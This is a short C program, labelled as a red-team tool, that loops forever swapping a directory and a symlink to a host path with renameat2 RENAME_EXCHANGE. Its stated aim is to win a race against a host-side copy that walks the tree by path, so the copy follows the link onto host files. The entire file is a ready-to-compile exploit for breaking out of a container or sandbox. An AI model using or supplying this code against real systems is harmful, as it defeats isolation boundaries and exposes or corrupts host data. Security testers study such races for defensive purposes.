/* Red-team: swaps a directory and a symlink (to a host path) for ever with renameat2
 * RENAME_EXCHANGE, so a host-side copy that walks the tree by path may follow the link.
 * usage: swapper DIR LINK */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(int argc, char **argv) {
    if (argc != 3) return 64;
    for (;;) syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], 2 /* RENAME_EXCHANGE */);
}
